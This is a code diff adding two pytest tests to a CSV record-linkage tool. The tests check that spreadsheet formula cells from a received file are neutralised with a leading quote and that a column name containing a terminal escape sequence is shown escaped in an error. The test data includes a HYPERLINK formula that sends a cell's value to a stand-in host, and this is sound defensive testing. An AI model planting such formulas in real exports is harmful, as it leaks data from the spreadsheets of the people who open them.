@@ -108,6 +108,27 @@ def test_attach_writes_record_id_and_listed_columns(
     assert done == Attached(rows=3, rows_attached=3)
 
 
+def test_received_cells_are_no_formulas_for_a_spreadsheet(
+    children: AgencyFile, welfare_links: Path, tmp_path: Path
+) -> None:
+    received = tmp_path / "received.csv"
+    cells = ['=HYPERLINK("http://x/?"&A1)', "@SUM(A1)", "-1.5", "+1 555-0100"]
+    with received.open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([["link_id", "school"], *([A, cell] for cell in cells)])
+    attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
+    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
+        rows = list(csv.reader(file))
+    assert [row[1] for row in rows[1:]] == [f"'{cells[0]}", f"'{cells[1]}", *cells[2:]]
+
+
+def test_a_received_column_with_control_characters_is_named_without_them(
+    children: AgencyFile, welfare_links: Path, write: Write, tmp_path: Path
+) -> None:
+    received = write("odd.csv", "link_id,school\x1b[2K", f"{A},x")
+    with pytest.raises(ColumnNotListedError, match=r"the column school\\x1b\[2K, which"):
+        attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
+
+
 def test_kept_columns_stand_before_the_attached(
     children, welfare_links, received, tmp_path
 ) -> None:
